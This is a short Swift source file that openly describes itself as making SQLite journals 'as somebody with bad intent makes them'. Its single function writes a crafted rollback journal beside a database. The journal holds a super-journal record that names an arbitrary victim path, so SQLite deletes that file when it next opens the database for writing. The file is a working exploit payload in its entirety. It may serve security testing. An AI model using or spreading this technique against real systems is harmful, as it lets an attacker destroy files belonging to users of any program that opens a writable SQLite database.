import Foundation

/// Journals as somebody with bad intent makes them.
public enum SuperJournal {
    /// Puts a journal beside a database that would make SQLite delete `victim` when it opens the database for writing:
    /// nothing has to be rolled back, and the transaction was begun over several databases.
    public static func plant(beside database: String, against victim: String) throws {
        let size = try FileManager.default.attributesOfItem(atPath: database)[.size] as? Int ?? 0
        func number(_ value: Int) -> [UInt8] {
            (0..<4).map { UInt8(truncatingIfNeeded: value >> (24 - 8 * $0)) }
        }
        let magic: [UInt8] = [0xD9, 0xD5, 0x05, 0xF9, 0x20, 0xA1, 0x63, 0xD7]
        let pageSize = 4_096
        // https://sqlite.org/fileformat.html, section 3: no records, a nonce, pages before, sector and page size.
        let header = magic + number(0) + number(7) + number(size / pageSize) + number(512) + number(pageSize)
        let name = Array(victim.utf8)
        // pager.c, writeSuperJournal: the page of the lock byte, the name, its length and sum, and the magic number.
        let sum = name.reduce(0) { $0 + Int(Int8(bitPattern: $1)) }
        let record = number((1 << 30) / pageSize + 1) + name + number(name.count) + number(sum) + magic
        let journal = header + [UInt8](repeating: 0, count: 512 - header.count) + record
        try Data(journal).write(to: URL(filePath: database + "-journal"))
    }
}
